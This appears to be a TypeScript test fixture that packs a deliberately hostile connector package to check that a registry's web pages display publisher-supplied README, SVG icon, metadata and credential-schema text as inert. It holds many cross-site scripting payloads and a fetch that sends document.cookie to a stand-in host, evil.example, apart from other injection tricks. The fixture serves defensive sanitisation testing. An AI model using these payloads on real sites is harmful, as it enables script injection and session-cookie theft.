import { packPackage } from "../helpers/registry.js";

// A package whose every publisher-controlled text tries to run script, load something from elsewhere, or
// restyle the page. The web must show all of it as inert text.

/** Origins the hostile README points at; no request may ever reach them. */
export const EVIL = "https://evil.example";

export const HOSTILE_README = `# Totally normal connector <script>alert("readme-h1")</script>

<script>alert("readme-script"); fetch("${EVIL}/steal?c=" + document.cookie)</script>

<img src="${EVIL}/pixel.png" onerror="alert('readme-onerror')" alt="tracker">

![external image](${EVIL}/badge.svg)

[click me](javascript:alert('readme-js-link'))
<a href="JaVaScRiPt:alert('readme-js-anchor')">anchor</a>
<a href="data:text/html,<script>alert('data')</script>">data link</a>

<style>body { display: none !important; }</style>
<link rel="stylesheet" href="${EVIL}/evil.css">

<iframe src="${EVIL}/frame"></iframe>

<form action="${EVIL}/phish" method="post"><input name="password" type="password"><button>Log in</button></form>

<svg onload="alert('readme-svg-onload')"><script>alert('readme-svg-script')</script></svg>

<div style="background:url(${EVIL}/bg.png)" onmouseover="alert('readme-mouseover')">styled div</div>

<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/x.swf">

<meta http-equiv="refresh" content="0;url=${EVIL}/">

<base href="${EVIL}/">

<p id="main" name="q">clobbering ids</p>

Safe text stays: **bold**, \`code\`, and [a real link](https://example.com/docs).
`;

export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert('icon-onload')">
<script>alert('icon-script'); fetch('${EVIL}/icon')</script>
<image href="${EVIL}/icon.png" width="10" height="10"/>
<circle cx="5" cy="5" r="4"/>
</svg>`;

/** The hostile connector as a tarball (publisher `acme`). */
export function hostilePackage(name = "hostile"): Promise<Uint8Array> {
  return packPackage(
    {
      name,
      version: "1.0.0",
      displayName: `Evil <script>alert("display-name")</script>`,
      description: `Looks harmless <img src=x onerror="alert('description')"> "quoted" & <b>bold</b>`,
      homepage: `${EVIL}/home`,
      repository: `${EVIL}/repo`,
      keywords: ["evil"],
      categories: ["security"],
      icon: "icon.svg",
    },
    {
      "README.md": HOSTILE_README,
      "icon.svg": HOSTILE_SVG,
      "mcp.json": JSON.stringify({
        mcpServers: { [name]: { type: "streamable-http", url: "https://example.com/mcp?k=${EVIL_KEY}" } },
      }),
      "token-schema.json": JSON.stringify({
        type: "object",
        properties: {
          EVIL_KEY: {
            type: "string",
            title: `<script>alert("credential-title")</script>`,
            description: `<img src=x onerror="alert('credential')">`,
            secret: true,
          },
        },
        required: ["EVIL_KEY"],
        additionalProperties: false,
      }),
      "skills/pwn/SKILL.md": `---\nname: pwn\ndescription: "<script>alert('skill')</script> does things"\n---\n\nBody.\n`,
    },
  );
}
